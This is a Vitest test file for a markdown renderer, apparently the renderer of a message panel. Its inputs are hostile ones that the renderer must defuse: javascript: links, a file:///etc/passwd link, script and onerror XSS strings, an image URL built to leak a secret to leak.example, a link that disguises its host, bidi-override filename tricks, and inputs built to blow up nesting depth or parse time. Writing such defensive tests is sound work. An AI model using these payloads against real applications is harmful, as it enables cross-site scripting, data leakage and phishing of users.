// @vitest-environment happy-dom
import { beforeEach, expect, test } from 'vitest';
import { useMessages } from '../use-messages';
import { drawInPieces } from './draw';

beforeEach(useMessages);

const show = (text: string) => drawInPieces([text]);

test('links lead to the web or a mail program only, and say where to', async () => {
  const root = await show(
    '[pay](https://evil.example/pay) [run](javascript:alert(1)) [data](data:text/html,x) [file](file:///etc/passwd) [near](/path) <https://plain.example/x> [mail](mailto:a@b.example)',
  );
  const links = [...root.querySelectorAll('a')];
  expect(links.map((link) => [link.href, link.textContent])).toEqual([
    ['https://evil.example/pay', 'pay evil.example'],
    ['https://plain.example/x', 'https://plain.example/x'],
    ['mailto:a@b.example', 'mail a@b.example'],
  ]);
  for (const link of links) expect([link.rel, link.target]).toEqual(['noreferrer noopener', '_blank']);
  expect(root.textContent).toContain('run data file near');
});

test('a link whose text names another host still shows its own', async () => {
  const root = await show('[https://bank.example](https://evil.example/login)');
  expect(root.querySelector('a')?.textContent).toBe('https://bank.example evil.example');
});

test('pictures are named and never loaded', async () => {
  const root = await show('![the quay](https://leak.example/?q=secret)');
  expect(root.querySelector('img')).toBeNull();
  expect(root.textContent).toBe('[Picture: the quay – not loaded from leak.example]');
});

test('HTML is text; a line break is one', async () => {
  const root = await show('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> and <b>bold</b><br>next\n\n<div onclick="x">\n\n[x](<javascript:alert(1)>)');
  expect(root.querySelectorAll('script, img, b, [onclick], a')).toHaveLength(0);
  expect(root.textContent).toContain('<script>alert(1)</script>');
  expect(root.querySelectorAll('br')).toHaveLength(1);
});

test('characters that hide or turn text around are gone, also when written as references', async () => {
  const root = await show('safe\u202Etxt.exe a\u200Bb \u{E0041}\u{E0042}tag &#8238;x &#x200B;y \u2066z\u2069 می\u200Cخواهم');
  expect(root.textContent).toBe('safetxt.exe ab tag x y z می\u200Cخواهم');
});

test('a tag character that is cut in two between pieces is gone too', async () => {
  const root = await drawInPieces(['ok\uDB40', '\uDC41 fine']);
  expect(root.textContent).toBe('ok fine');
});

test('headings fit under those of the panel and skip no level', async () => {
  const root = await show('## One\n\n#### Two\n\n# Three\n\n###### Four\n');
  expect([...root.querySelectorAll('h3, h4, h5, h6')].map((heading) => heading.localName)).toEqual(['h3', 'h4', 'h3', 'h4']);
});

test('tables scroll in a region of their own, tasks say whether they are done', async () => {
  const root = await show('| a | b |\n|---|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] open\n');
  const region = root.querySelector('[role="group"]');
  expect([region?.getAttribute('tabindex'), region?.getAttribute('aria-label')]).toEqual(['0', 'Table']);
  expect([...root.querySelectorAll('input')].map((box) => [box.checked, box.disabled, box.getAttribute('aria-label')])).toEqual([
    [true, true, 'Done'],
    [false, true, 'To do'],
  ]);
});

test.each([
  ['quotations', `${'>'.repeat(5_000)} end`],
  ['list items on one line', `${'- '.repeat(3_000)}end`],
  ['list items on lines of their own', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- end`).join('\n')],
  ['quotations and lists in turn', `${'> 1. '.repeat(2_000)}end`],
  ['emphasis', `${'*a '.repeat(3_000)}end${' b*'.repeat(3_000)}`],
  ['rules that are lists', `- ${'* '.repeat(5_000)}end`],
])('nesting without end becomes text at some depth: %s', async (_, text) => {
  const root = await show(text);
  expect(root.textContent).toContain('end');
  expect(depthOf(root)).toBeLessThan(120);
});

test('a label that never closes is read in linear time', async () => {
  const root = await show(`[${'a'.repeat(100_000)}\n`);
  expect(root.textContent).toHaveLength(100_001);
});

test('inline text that never settles is read in pieces', async () => {
  const text = '_a'.repeat(6_000);
  const root = await show(text);
  expect(root.textContent?.replaceAll('_', '')).toBe('a'.repeat(6_000));
});

function depthOf(root: Element): number {
  let deepest = 0;
  for (const element of root.querySelectorAll('*')) {
    let depth = 0;
    for (let at: Element | null = element; at && at !== root; at = at.parentElement) depth++;
    deepest = Math.max(deepest, depth);
  }
  return deepest;
}
